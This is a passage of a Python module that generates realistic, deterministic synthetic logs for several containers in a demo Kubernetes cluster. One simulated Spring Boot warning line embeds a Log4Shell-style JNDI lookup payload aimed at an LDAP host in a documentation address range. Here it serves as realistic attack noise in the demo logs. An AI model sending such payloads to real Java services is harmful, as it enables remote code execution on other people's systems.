"""Container logs of the demo cluster: deterministic, realistic, and growing live.

`demo_log_lines(pod, container, previous, now)` returns the log of one container instance as
(timestamp, line) pairs, ascending. Every line is a pure function of the pod's names, the instance's
start time and the line's index, so two calls agree, and a later `now` only appends lines.

Each container has a story (nginx access log for web, JSON for api, klog for the control plane, CoreDNS
query log, a Python traceback for the crash-looping invoice-sync, memory climbing in the OOMKilled
thumbnailer, ...). Lines come every few seconds: line k of an instance falls at
start + (k + jitter) * step, so the last N lines are computed from the end without generating the whole
history. Like a kubelet that rotates its log files, a call returns at most `MAX_LINES` lines; pass
`tail_lines` or `since` to get (and compute) fewer.
"""

from __future__ import annotations

import json
import math
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

from sandbox import usage

LogLine = tuple[datetime, str]

#: The most lines one call returns: the kubelet keeps ~10 MiB per container log file.
MAX_LINES = 5_000

_MASK64 = (1 << 64) - 1
_STARTUP_SPACING = 0.0137  # seconds between start-up lines (they all land before the first body line)
_ENDING_SPACING = 0.001


def _mix(seed: int, k: int) -> int:
    """SplitMix64 finaliser: a well-spread 64-bit number from (seed, k), fast and stable across runs."""
    x = (seed ^ ((k + 1) * 0x9E3779B97F4A7C15)) & _MASK64
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & _MASK64
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & _MASK64
    return x ^ (x >> 31)


def _stable_seed(*parts: str) -> int:
    value = 1469598103934665603  # FNV-1a: unlike hash(), the same in every process
    for char in "/".join(parts).encode():
        value = ((value ^ char) * 1099511628211) & _MASK64
    return value


def _at(start: float, index: int) -> float:
    """When start-up line `index` is written (the kubelet's timestamp and the app's own agree)."""
    return start + index * _STARTUP_SPACING


def _utc(t: float) -> datetime:
    return datetime.fromtimestamp(t, UTC)


def _time(value: Any) -> float | None:
    if not isinstance(value, str) or not value:
        return None
    return datetime.fromisoformat(value.replace("Z", "+00:00")).timestamp()


@dataclass(frozen=True)
class _Instance:
    """One run of a container: what the log is about."""

    pod: dict[str, Any]
    namespace: str
    pod_name: str
    container: str
    image: str
    start: float
    end: float  # now for a running instance, finishedAt for a terminated one
    terminated_reason: str | None  # None while running
    exit_code: int | None
    restart: int  # how many restarts happened before this instance
    seed: int
    pod_ip: str = ""
    node: str = ""
    extra: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class _Story:
    step: float  # mean seconds between body lines
    startup: Callable[[_Instance], list[str]]
    body: Callable[[_Instance, int, float], str]
    ending: Callable[[_Instance], list[str]] | None = None  # for terminated instances


# ------------------------------------------------------------------------------------------------
# small vocabularies


def _pick(options: tuple[Any, ...], number: int) -> Any:
    return options[number % len(options)]


def _client_ip(number: int) -> str:
    return f"10.244.{number % 3}.{(number >> 3) % 200 + 20}"


_PATHS = ("/", "/", "/products", "/products/42", "/products/17", "/cart", "/checkout", "/static/app.js",
          "/static/app.css", "/favicon.ico", "/search?q=lamp", "/api/cart", "/api/products?page=2")
_API_PATHS = ("/api/products", "/api/products/42", "/api/cart", "/api/cart/items", "/api/orders",
              "/api/orders/1042", "/api/search", "/healthz")
_AGENTS = ("Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
           "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) "
           "Version/17.2 Safari/605.1.15",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/120.0.0.0 Safari/537.36",
           "curl/8.5.0")


# ------------------------------------------------------------------------------------------------
# nginx (shop/web)


def _nginx_error_time(t: float) -> str:
    return _utc(t).strftime("%Y/%m/%d %H:%M:%S")


def _nginx_startup(inst: _Instance) -> list[str]:
    stamp = _nginx_error_time(inst.start)
    return [
        "/docker-entrypoint.sh: /docker-entrypoint.d/ is not empty, will attempt to perform configuration",
        "/docker-entrypoint.sh: Looking for shell scripts in /docker-entrypoint.d/",
        "/docker-entrypoint.sh: Launching /docker-entrypoint.d/10-listen-on-ipv6-by-default.sh",
        "10-listen-on-ipv6-by-default.sh: info: Getting the checksum of /etc/nginx/conf.d/default.conf",
        "10-listen-on-ipv6-by-default.sh: info: /etc/nginx/conf.d/default.conf differs from the packaged "
        "version",
        "/docker-entrypoint.sh: Launching /docker-entrypoint.d/20-envsubst-on-templates.sh",
        "/docker-entrypoint.sh: Configuration complete; ready for start up",
        f'{stamp} [notice] 1#1: using the "epoll" event method',
        f"{stamp} [notice] 1#1: nginx/1.25.3",
        f"{stamp} [notice] 1#1: built by gcc 12.2.0 (Debian 12.2.0-14)",
        f"{stamp} [notice] 1#1: OS: Linux 6.1.0-21-amd64",
        f"{stamp} [notice] 1#1: getrlimit(RLIMIT_NOFILE): 1048576:1048576",
        f"{stamp} [notice] 1#1: start worker processes",
        f"{stamp} [notice] 1#1: start worker process 29",
        f"{stamp} [notice] 1#1: start worker process 30",
    ]


def _nginx_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    roll = n % 1000
    connection = 1000 + k
    if roll < 20:
        return (f"{_nginx_error_time(t)} [warn] 29#29: *{connection} an upstream response is buffered to a "
                f"temporary file /var/cache/nginx/proxy_temp/{n % 10}/{n % 97:02d}/00000{n % 9000 + 1000} "
                "while "
                f"reading upstream, client: {_client_ip(n)}, server: _, request: \"GET /api/products?page="
                f"{n % 9 + 1} HTTP/1.1\", upstream: \"http://10.96.88.203:80/api/products\", "
                f"host: \"shop.demo.example\"")
    if roll < 25:
        return (f"{_nginx_error_time(t)} [error] 29#29: *{connection} upstream timed out (110: Connection "
                f"timed out) while reading response header from upstream, client: {_client_ip(n)}, server: "
                "_, "
                f"request: \"POST /api/orders HTTP/1.1\", upstream: \"http://10.96.88.203:80/api/orders\", "
                f"host: \"shop.demo.example\"")
    stamp = _utc(t).strftime("%d/%b/%Y:%H:%M:%S +0000")
    if roll >= 900:  # the kubelet's probes (from the node's address)
        return (f'{inst.extra.get("host_ip", "10.244.1.1")} - - [{stamp}] "GET /healthz HTTP/1.1" 200 2 "-" '
                '"kube-probe/1.30" rt=0.001')
    path = _pick(_PATHS, n >> 8)
    method = "POST" if path in ("/checkout", "/api/cart") and (n >> 20) % 3 == 0 else "GET"
    status = 200
    if roll < 40:
        status = 404
        path = f"/products/{n % 5000 + 900}"
    elif roll < 44:
        status = 502
    elif roll < 120:
        status = 304
    size = 0 if status == 304 else 612 + (n >> 12) % 24_000
    seconds = ((n >> 24) % 180 + 2) / 1000 if status != 502 else 30.001
    agent = _pick(_AGENTS, n >> 32)
    referer = '"-"' if (n >> 40) % 3 else '"https://shop.demo.example/"'
    return (f'{_client_ip(n)} - - [{stamp}] "{method} {path} HTTP/1.1" '
            f'{status} {size} {referer} "{agent}" rt={seconds:.3f}')


# ------------------------------------------------------------------------------------------------
# JSON application log (shop/api)


def _json_line(t: float, level: str, logger: str, message: str, **fields: Any) -> str:
    record = {"ts": _utc(t).isoformat(timespec="milliseconds").replace("+00:00", "Z"), "level": level,
              "logger": logger, "msg": message, **fields}
    return json.dumps(record, separators=(",", ":"))


def _api_startup(inst: _Instance) -> list[str]:
    t = inst.start
    return [
        _json_line(t, "info", "shop.api", "starting shop-api", version="2.3.1", python="3.12.4", pid=1),
        _json_line(_at(t, 1), "info", "shop.api.settings", "settings loaded", log_format="json", workers=2),
        _json_line(_at(t, 2), "info", "shop.api.db", "database pool ready", pool_size=10,
                   host="postgres.shop.svc", database="shop"),
        _json_line(_at(t, 3), "info", "uvicorn.error", "Uvicorn running on http://0.0.0.0:8000 (Press CTRL+C "
                                                     "to quit)"),
    ]


def _api_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    roll = n % 1000
    request_id = f"{n & 0xFFFFFFFFFFFF:012x}"
    path = _pick(_API_PATHS, n >> 8)
    method = "POST" if path in ("/api/cart/items", "/api/orders") and (n >> 16) % 2 else "GET"
    if roll < 15:
        return _json_line(t, "error", "shop.api.payments", "payment provider returned an error",
                          request_id=request_id, method="POST", path="/api/orders", status=502,
                          upstream="payments.example.net", upstream_status=503, duration_ms=1204.7)
    if roll < 55:
        return _json_line(t, "warning", "shop.api.db", "slow query", request_id=request_id,
                          query="SELECT ... FROM products WHERE "
                                "...", duration_ms=round(250 + (n >> 20) % 900, 1))
    status = 404 if roll < 80 else (201 if method == "POST" else 200)
    return _json_line(t, "info", "shop.api.access", "request completed", request_id=request_id, method=method,
                      path=path, status=status, duration_ms=round(((n >> 24) % 900) / 10 + 1.5, 1),
                      client=_client_ip(n))


# ------------------------------------------------------------------------------------------------
# klog (kube-apiserver, kube-controller-manager, kube-scheduler, kube-proxy, metrics-server)


def _klog(t: float, level: str, source: str, message: str, thread: int = 1) -> str:
    moment = _utc(t)
    return (f"{level}{moment.strftime('%m%d %H:%M:%S')}.{moment.microsecond:06d} {thread:7d} {source}] "
            f"{message}")


_KLOG_MESSAGES: dict[str, tuple[tuple[str, str, str], ...]] = {
    "kube-apiserver": (
        ("I", "controller.go:615", "quota admission added evaluator for: leases.coordination.k8s.io"),
        ("I", "httplog.go:132", '"HTTP" verb="LIST" URI="/api/v1/pods?limit=500" latency="6.217ms" '
                                'userAgent="kams/0.1.0" srcIP="10.244.1.18:43210" resp=200'),
        ("I", "httplog.go:132", '"HTTP" verb="WATCH" '
                                'URI="/api/v1/namespaces/kube-system/configmaps?watch=true" '
                                'latency="5m0.001s" userAgent="kubelet/v1.30.2" resp=200'),
        ("I", "alloc.go:330", '"allocated clusterIPs" service="batch/analytics-etl" '
                              'clusterIPs={"IPv4":"10.96.77.4"}'),
        ("W", "watcher.go:338", "watch chan error: etcdserver: mvcc: required revision has been compacted"),
        ("I", "cacher.go:460", 'cacher (pods): 1 objects queued in incoming channel.'),
        ("E", "status.go:71", 'apiserver received an error that is not an metav1.Status: '
                              '&errors.errorString{s:"http: Handler timeout"}: http: Handler timeout'),
    ),
    "kube-controller-manager": (
        ("I", "replica_set.go:676", '"Finished syncing" logger="replicaset-controller" kind="ReplicaSet" '
                                    'key="legacy/invoice-sync-5d8b9c7f6" duration="91.2µs"'),
        ("I", "event.go:389", '"Event occurred" object="batch/nightly-report" fieldPath="" kind="CronJob" '
                              'apiVersion="batch/v1" type="Normal" reason="SawCompletedJob"'),
        ("I", "range_allocator.go:381", '"Set node PodCIDR" node="demo-worker-2" podCIDRs=["10.244.2.0/24"]'),
        ("I", "cleaner.go:175", '"Cleaning CSR as it is more than approvedExpiration duration old and '
                                'approved." '
                                'csr="csr-8ts9x"'),
        ("W", "garbagecollector.go:826", '"failed to discover some groups" '
                                         'groups="map[metrics.k8s.io/v1beta1:stale GroupVersion discovery]"'),
    ),
    "kube-scheduler": (
        ("I", "schedule_one.go:1004", '"Unable to schedule pod; no fit; waiting" '
                                      'pod="batch/analytics-etl-6f5d9b8c47-'
                                      'p2xlr" err="0/3 nodes are available: 3 Insufficient memory. '
                                      'preemption: 0/3 '
                                      'nodes are available: 3 No preemption victims found for incoming '
                                      'pod."'),
        ("I", "leaderelection.go:260", "successfully renewed lease kube-system/kube-scheduler"),
        ("I", "reflector.go:351", "Caches populated for *v1.Pod from "
                                  "k8s.io/client-go/informers/factory.go:160"),
    ),
    "kube-proxy": (
        ("I", "proxier.go:802", '"SyncProxyRules complete" elapsed="41.93ms"'),
        ("I", "proxier.go:796", '"Syncing iptables rules"'),
        ("I", "config.go:319", '"Calling handler.OnEndpointSliceUpdate"'),
    ),
    "metrics-server": (
        ("I", "server.go:191", '"Scraped nodes" count=3 duration="24.1ms"'),
        ("I", "handler.go:153", '"Served metrics" resource="pods" count=21'),
        ("E", "scraper.go:149", '"Failed to scrape node" err="Get '
                                '\\"https://172.18.0.4:10250/metrics/resource\\": '
                                'context deadline exceeded" node="demo-worker-2"'),
    ),
}


def _klog_startup(inst: _Instance) -> list[str]:
    name = inst.container
    return [
        _klog(inst.start, "I", "flags.go:64", f'FLAG: --v="2" ({name})'),
        _klog(inst.start, "I", "server.go:151", f'"Version" version="v1.30.2" component="{name}"'),
        _klog(_at(inst.start, 2), "I", "secure_serving.go:213", "Serving securely on [::]:443"
              if name == "metrics-server" else "Serving securely on 127.0.0.1:10259"),
        _klog(_at(inst.start, 3), "I", "leaderelection.go:250", "attempting to acquire leader lease "
                                                              f"kube-system/{name}..."),
    ]


def _klog_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    messages = _KLOG_MESSAGES.get(inst.container, _KLOG_MESSAGES["kube-proxy"])
    level, source, message = messages[n % len(messages)]
    if level != "I" and (n >> 16) % 4:  # warnings and errors are rarer than the pool suggests
        level, source, message = messages[0]
    return _klog(t, level, source, message, thread=(n >> 24) % 90 + 1)


# ------------------------------------------------------------------------------------------------
# etcd (zap JSON)


def _etcd_line(t: float, level: str, caller: str, message: str, **fields: Any) -> str:
    record = {"level": level, "ts": _utc(t).isoformat(timespec="microseconds").replace("+00:00", "Z"),
              "caller": caller, "msg": message, **fields}
    return json.dumps(record, separators=(",", ":"))


def _etcd_startup(inst: _Instance) -> list[str]:
    return [
        _etcd_line(inst.start, "info", "etcdmain/etcd.go:73", "Running: ",
                   args=["etcd", "--data-dir=/var/lib/etcd", "--name=demo-control-plane"]),
        _etcd_line(inst.start, "info", "embed/etcd.go:127", "configuring peer listeners",
                   **{"listen-peer-urls": ["https://172.18.0.2:2380"]}),
        _etcd_line(_at(inst.start, 2), "info", "etcdserver/server.go:2068", "published local member to "
                                                                            "cluster "
                   "through "
                   "raft", **{"local-member-id": "b8e14bda2255bc24", "cluster-id": "38b0e74a458e7a1f"}),
        _etcd_line(_at(inst.start, 3), "info", "embed/serve.go:250", "serving client traffic securely",
                   address="127.0.0.1:2379"),
    ]


def _etcd_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    revision = 180_000 + k * 37
    roll = n % 10
    if roll == 0:
        return _etcd_line(t, "warn", "etcdserver/util.go:170", "apply request took too long",
                          took=f"{110 + (n >> 8) % 300}.{(n >> 20) % 1000:03d}ms",
                          **{"expected-duration": "100ms"},
                          prefix="read-only range ", request="key:\"/registry/pods/\" "
                                                             "range_end:\"/registry/pods0\"")
    if roll < 4:
        return _etcd_line(t, "info", "mvcc/index.go:214", "compact tree index", revision=revision)
    if roll < 7:
        return _etcd_line(t, "info", "mvcc/kvstore_compaction.go:68", "finished scheduled compaction",
                          **{"compact-revision": revision,
                             "took": f"{2 + (n >> 8) % 9}.{(n >> 16) % 1000:03d}ms"})
    return _etcd_line(t, "info", "mvcc/hash.go:137", "storing new hash", hash=(n >> 8) & 0xFFFFFFFF,
                      revision=revision, **{"compact-revision": revision - 600})


# ------------------------------------------------------------------------------------------------
# CoreDNS


def _coredns_startup(inst: _Instance) -> list[str]:
    return [".:53", "[INFO] plugin/reload: Running configuration SHA512 = "
                    "591cf328cccc12bc490481273e738df59329c62c0"
            "b729d94e8b61db9961c2fa5f046dd37f1cf888b953814040d180f52594972691cd6ff41be96639138a43908",
            "CoreDNS-1.11.1", "linux/amd64, go1.20.7, ae2bbc2"]


_DNS_NAMES = ("api.shop.svc.cluster.local.", "web.shop.svc.cluster.local.",
              "prometheus.monitoring.svc.cluster.local.",
              "postgres.shop.svc.cluster.local.", "kubernetes.default.svc.cluster.local.",
              "queue.batch.svc.cluster.local.", "payments.example.net.")


def _coredns_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    client = f"{_client_ip(n)}:{(n >> 8) % 50000 + 10000}"
    query_id = (n >> 24) % 65536
    if n % 9 == 0:
        # invoice-sync keeps asking for a Service that does not exist (the reason it crash-loops)
        return (f'[INFO] {client} - {query_id} "A IN invoices-db.legacy.svc.cluster.local. udp 55 false 512" '
                f"NXDOMAIN qr,aa,rd 148 0.000{(n >> 40) % 900 + 100}s")
    if n % 97 == 1:
        return ("[ERROR] plugin/errors: 2 payments.example.net. AAAA: read udp "
                f"{_client_ip(n)}:{(n >> 8) % 50000 + 10000}"
                "->172.18.0.1:53: i/o timeout")
    name = _pick(_DNS_NAMES, n >> 16)
    kind = "AAAA" if (n >> 32) % 2 else "A"
    return (f'[INFO] {client} - {query_id} "{kind} IN {name} udp {len(name) + 17} false 512" NOERROR '
            f"qr,aa,rd {len(name) + 80} 0.000{(n >> 40) % 900 + 100}s")


# ------------------------------------------------------------------------------------------------
# Python logging (kams, thumbnailer, invoice-sync, nightly-report)


def _pylog(t: float, level: str, logger: str, message: str) -> str:
    moment = _utc(t)
    return (f"{moment.strftime('%Y-%m-%d %H:%M:%S')},{moment.microsecond // 1000:03d} {level} {logger}: "
            f"{message}")


def _kams_startup(inst: _Instance) -> list[str]:
    return ["", "Collecting usage statistics. To deactivate, set browser.gatherUsageStats to false.", "",
            "", "  You can now view your Streamlit app in your browser.", "", "  URL: "
                                                                              "http://0.0.0.0:8501", ""]


def _kams_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    roll = n % 100
    if roll < 3:
        return _pylog(t, "WARNING", "kams.prom", "query took 2.4s (slow) name=request_latency_p95 window=1h")
    if roll < 5:
        return _pylog(t, "WARNING", "kams.kube", "secrets are forbidden for system:serviceaccount:kams:kams "
                      "(expected: read-only account)")
    if roll < 55:
        return _pylog(t, "INFO", "kams.kube", "listed pods namespace=* count=22 "
                                              f"took_ms={(n >> 8) % 60 + 18}")
    if roll < 90:
        query = _pick(("request_rate", "error_rate", "cpu_usage"), n >> 16)
        return _pylog(t, "INFO", "kams.prom", f"query ok name={query} took_ms={(n >> 20) % 40 + 6}")
    return _pylog(t, "INFO", "kams.archive", "snapshot written "
                                             f"key=demo/{_utc(t).strftime('%Y/%m/%d/%H%M')}/pods.csv")


def _thumbnailer_limit(inst: _Instance) -> float:
    for spec in inst.pod.get("spec", {}).get("containers", []):
        if spec.get("name") == inst.container:
            limit = ((spec.get("resources") or {}).get("limits") or {}).get("memory")
            if limit:
                return usage.quantity_bytes(limit) or 256 * usage.MIB
    return 256 * usage.MIB


def _thumbnailer_startup(inst: _Instance) -> list[str]:
    return [
        _pylog(inst.start, "INFO", "thumbnailer", "starting thumbnailer 1.8.0 workers=4 pid=1"),
        _pylog(_at(inst.start, 1), "INFO", "thumbnailer.queue", "connected to "
                                                                "redis://queue.batch.svc:6379/0"),
        _pylog(_at(inst.start, 2), "INFO", "thumbnailer.cache", "image cache enabled max_items=unbounded"),
    ]


def _thumbnailer_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    limit = _thumbnailer_limit(inst)
    # The same sawtooth metrics show: the log and the dashboards tell one story.
    rss = usage.memory_bytes(inst.pod, inst.container, t) if usage.is_running(inst.pod) else 0
    rss_mib, limit_mib = rss / usage.MIB, limit / usage.MIB
    share = rss / limit if limit else 0.0
    if (share > 0.9 and n % 2 == 0) or (share > 0.8 and n % 5 == 0):
        return _pylog(t, "WARNING", "thumbnailer.memory", f"memory high rss_mb={rss_mib:.0f} "
                                                          f"limit_mb={limit_mib:.0f} "
                      f"({share:.0%}); image cache holds {int(share * 4200)} items")
    width, height = _pick(((4032, 3024), (3000, 2000), (1920, 1080), (6000, 4000)), n >> 8)
    if n % 50 == 0:
        return _pylog(t, "ERROR", "thumbnailer.worker", f"cannot decode image id=img-{n % 999983:06d}: "
                      "cannot identify image file (truncated JPEG)")
    return _pylog(t, "INFO", "thumbnailer.worker", f"resized image id=img-{n % 999983:06d} "
                                                   f"{width}x{height} -> 320x240 "
                  f"in {(n >> 16) % 400 + 60}ms rss_mb={rss_mib:.0f}")


def _sync_startup(inst: _Instance) -> list[str]:
    t = inst.start
    return [
        _pylog(t, "INFO", "invoice_sync", "invoice-sync 3.2.0 starting (commit 9f2c1ab)"),
        _pylog(_at(t, 1), "INFO", "invoice_sync.settings", "DB_HOST=invoices-db.legacy.svc.cluster.local "
                                                          "DB_PORT=5432 "
               "SYNC_INTERVAL=30s"),
        _pylog(_at(t, 2), "INFO", "invoice_sync.db", "connecting to "
                                                   "postgresql://invoices-db.legacy.svc.cluster.local:5432"
               "/invoices"),
    ]


_SYNC_ERROR = ('could not translate host name "invoices-db.legacy.svc.cluster.local" to address: '
               "Name or service not known")


def _sync_body(inst: _Instance, k: int, t: float) -> str:
    return _pylog(t, "WARNING", "invoice_sync.db", f"database not reachable (attempt {min(k, 3)}/3): "
                                                   f"{_SYNC_ERROR}")


def _sync_ending(inst: _Instance) -> list[str]:
    return [
        _pylog(inst.end, "ERROR", "invoice_sync.db", "giving up after 3 attempts"),
        _pylog(inst.end, "CRITICAL", "invoice_sync", "unhandled exception, exiting"),
        "Traceback (most recent call last):",
        '  File "/usr/local/lib/python3.11/site-packages/psycopg2/__init__.py", line 122, in connect',
        "    conn = _connect(dsn, connection_factory=connection_factory, **kwasync)",
        "           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^",
        f"psycopg2.OperationalError: {_SYNC_ERROR}",
        "",
        "",
        "The above exception was the direct cause of the following exception:",
        "",
        "Traceback (most recent call last):",
        '  File "/app/invoice_sync/__main__.py", line 41, in <module>',
        "    main()",
        '  File "/app/invoice_sync/__main__.py", line 33, in main',
        "    db = connect_with_retry(settings.database_url, attempts=3)",
        "         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^",
        '  File "/app/invoice_sync/db.py", line 58, in connect_with_retry',
        "    raise DatabaseUnavailable(f\"database unavailable after {attempts} attempts\") from last_error",
        "invoice_sync.db.DatabaseUnavailable: database unavailable after 3 attempts",
    ]


def _report_startup(inst: _Instance) -> list[str]:
    return [_pylog(inst.start, "INFO", "nightly_report", "nightly-report 2.0.1 date=yesterday "
                                                         "out=s3://demo-reports/"),
            _pylog(_at(inst.start, 1), "INFO", "nightly_report.db", "connected to "
                                                                    "postgres.shop.svc:5432/shop")]


def _report_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    if n % 23 == 0:
        return _pylog(t, "WARNING", "nightly_report.fx", "exchange rate for CHF missing, using yesterday's")
    return _pylog(t, "INFO", "nightly_report.fetch", f"fetched page {k} of orders (500 rows, "
                                                     f"{(n >> 8) % 900 + 150}ms)")


def _report_ending(inst: _Instance) -> list[str]:
    day = _utc(inst.start).strftime("%Y-%m-%d")
    if inst.terminated_reason == "Completed":
        rows = int((inst.end - inst.start) / 6) * 500
        return [_pylog(inst.end, "INFO", "nightly_report.write", f"wrote s3://demo-reports/{day}/daily.csv "
                       f"({rows} rows)"),
                _pylog(inst.end, "INFO", "nightly_report", f"done in {inst.end - inst.start:.1f}s")]
    return [_pylog(inst.end, "ERROR", "nightly_report", f"failed: exit code {inst.exit_code}")]


# ------------------------------------------------------------------------------------------------
# Java / Spring Boot (legacy portal)


def _spring(t: float, level: str, thread: str, logger: str, message: str) -> str:
    moment = _utc(t)
    return (f"{moment.strftime('%Y-%m-%d %H:%M:%S')}.{moment.microsecond // 1000:03d} {level:>5} 1 --- "
            f"[{thread:>15}] {logger:<40} : {message}")


def _portal_startup(inst: _Instance) -> list[str]:
    t = inst.start
    return [
        "", "  .   ____          _            __ _ _", r" /\\ / ___'_ __ _ _(_)_ __  __ _ \ \ \ \\",
        r"( ( )\___ | '_ | '_| | '_ \/ _` | \ \ \ \\", r" \\/  ___)| |_)| | | | | || (_| |  ) ) ) )",
        "  '  |____| .__|_| |_|_| |_\\__, | / / / /", " =========|_|==============|___/=/_/_/_/",
        " :: Spring Boot ::                (v2.5.8)", "",
        _spring(_at(t, 9), "INFO", "main", "c.example.portal.PortalApplication", "Starting PortalApplication "
                                                                               "v1.0.3 "
                "using Java 11.0.13 with PID 1 (/app/portal.jar started by root in /app)"),
        _spring(_at(t, 10), "WARN", "main", "o.s.b.a.s.s.UserDetailsServiceAutoConfig",
                "Using generated security password: 2f9b3c1e-0a47-4d2e-9c55-demo0000000"),
        _spring(_at(t, 11), "INFO", "main", "o.s.b.w.embedded.tomcat.TomcatWebServer",
                "Tomcat started on port(s): 8080 (http) with context path ''"),
        _spring(_at(t, 12), "INFO", "main", "c.example.portal.PortalApplication",
                "Started PortalApplication in 0.171 seconds (JVM running for 0.94)"),
    ]


def _portal_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    thread = f"nio-8080-exec-{n % 10 + 1}"
    roll = n % 1000
    if roll < 4:
        return _spring(t, "WARN", thread, "c.example.portal.web.RequestLogger", "Suspicious header from "
                       f"203.0.113.{n % 200 + 7}: User-Agent=${{jndi:ldap://203.0.113.{n % 200 + 7}:1389/a}}")
    if roll < 12:
        return _spring(t, "ERROR", thread, "o.a.c.c.C.[.[.[/].[dispatcherServlet]", "Servlet.service() for "
                       "servlet [dispatcherServlet] threw exception [Request processing failed; nested "
                       "exception is "
                       "java.lang.NullPointerException] with root cause")
    if roll < 40:
        return _spring(t, "WARN", "HikariPool-1 housekeeper", "com.zaxxer.hikari.pool.HikariPool",
                       "HikariPool-1 - Thread starvation or clock leap detected (housekeeper delta=1m4s).")
    invoice = 10_000 + (n >> 10) % 5000
    return _spring(t, "INFO", thread, "c.e.portal.web.InvoiceController",
                   f"GET /invoices/{invoice} 200 ({(n >> 20) % 200 + 12} ms)")


# ------------------------------------------------------------------------------------------------
# logfmt (Prometheus, node-exporter, and the fallback for pods without a story)


def _logfmt_time(t: float) -> str:
    return _utc(t).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _prometheus_startup(inst: _Instance) -> list[str]:
    ts = _logfmt_time(inst.start)
    return [
        f'ts={ts} caller=main.go:573 level=info msg="No time or size retention was set so using the '
        'default time '
        'retention" duration=15d',
        f'ts={ts} caller=main.go:617 level=info msg="Starting Prometheus Server" mode=server '
        'version="(version=2.51.2,'
        ' branch=HEAD, revision=b4c0ab52c3e9b940ab803581ddae9b3d9a452337)"',
        f'ts={ts} caller=web.go:568 level=info component=web msg="Start listening for connections" '
        'address=0.0.0.0:9090',
        f'ts={ts} caller=main.go:1129 level=info msg="Server is ready to receive web requests."',
    ]


def _prometheus_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    ts = _logfmt_time(t)
    roll = n % 20
    if roll == 0:
        return (f'ts={ts} caller=scrape.go:1738 level=warn component="scrape manager" '
                'scrape_pool=kubernetes-pods '
                'target=http://10.244.1.24:8080/metrics msg="Error on ingesting samples with different '
                'value but '
                'same timestamp" num_dropped=1')
    if roll < 8:
        return (f'ts={ts} caller=compact.go:576 level=info component=tsdb msg="write block" '
                f'mint={int(t - 7200) * 1000} maxt={int(t) * 1000} ulid=01HK{n % 10**12:012d} '
                f'duration={(n >> 8) % 900 + 100}ms')
    return (f'ts={ts} caller=head.go:1355 level=info component=tsdb msg="Head GC completed" '
            'caller=truncateMemory '
            f'duration={(n >> 8) % 9000 + 500}µs')


def _node_exporter_startup(inst: _Instance) -> list[str]:
    ts = _logfmt_time(inst.start)
    lines = [f'ts={ts} caller=node_exporter.go:193 level=info msg="Starting node_exporter" '
             'version="(version=1.8.1, '
             'branch=HEAD, revision=400c3979931613db930ea035f39ce7b377cdbb5b)"',
             f'ts={ts} caller=node_exporter.go:111 level=info msg="Enabled collectors"']
    lines += [f"ts={ts} caller=node_exporter.go:118 level=info collector={name}"
              for name in ("cpu", "diskstats", "filesystem", "loadavg", "meminfo", "netdev", "stat", "time")]
    lines.append(f"ts={ts} caller=tls_config.go:313 level=info msg=\"Listening on\" address=[::]:9100")
    return lines


def _node_exporter_body(inst: _Instance, k: int, t: float) -> str:
    return (f'ts={_logfmt_time(t)} caller=collector.go:169 level=error msg="collector failed" name=hwmon '
            'duration_seconds=0.000412 err="open /host/sys/class/hwmon: no such file or directory"')


def _generic_startup(inst: _Instance) -> list[str]:
    ts = _logfmt_time(inst.start)
    return [f'ts={ts} level=info msg="starting" app={inst.container} image="{inst.image}"',
            f'ts={ts} level=info msg="listening" addr=":8080"']


def _generic_body(inst: _Instance, k: int, t: float) -> str:
    n = _mix(inst.seed, k)
    roll = n % 100
    level = "error" if roll < 2 else "warn" if roll < 8 else "info"
    message = {"error": "request failed", "warn": "slow request", "info": "request handled"}[level]
    status = 500 if level == "error" else 200
    return (f'ts={_logfmt_time(t)} level={level} msg="{message}" method=GET path={_pick(_API_PATHS, n >> 8)} '
            f"status={status} duration_ms={(n >> 16) % 300 + 2}")


# ------------------------------------------------------------------------------------------------

_STORIES: dict[str, _Story] = {
    "nginx": _Story(2.0, _nginx_startup, _nginx_body),
    "api": _Story(3.0, _api_startup, _api_body),
    "kams": _Story(10.0, _kams_startup, _kams_body),
    "kube-apiserver": _Story(8.0, _klog_startup, _klog_body),
    "kube-controller-manager": _Story(30.0, _klog_startup, _klog_body),
    "kube-scheduler": _Story(45.0, _klog_startup, _klog_body),
    "kube-proxy": _Story(120.0, _klog_startup, _klog_body),
    "metrics-server": _Story(60.0, _klog_startup, _klog_body),
    "etcd": _Story(40.0, _etcd_startup, _etcd_body),
    "coredns": _Story(4.0, _coredns_startup, _coredns_body),
    "prometheus": _Story(120.0, _prometheus_startup, _prometheus_body),
    "node-exporter": _Story(900.0, _node_exporter_startup, _node_exporter_body),
    "thumbnailer": _Story(5.0, _thumbnailer_startup, _thumbnailer_body),
    "invoice-sync": _Story(0.5, _sync_startup, _sync_body, _sync_ending),
    "report": _Story(6.0, _report_startup, _report_body, _report_ending),
    "portal": _Story(4.0, _portal_startup, _portal_body),
    "generic": _Story(10.0, _generic_startup, _generic_body),
}


def _story_for(container: str, image: str) -> _Story:
    if container in _STORIES:
        return _STORIES[container]
    if "nginx" in image:
        return _STORIES["nginx"]
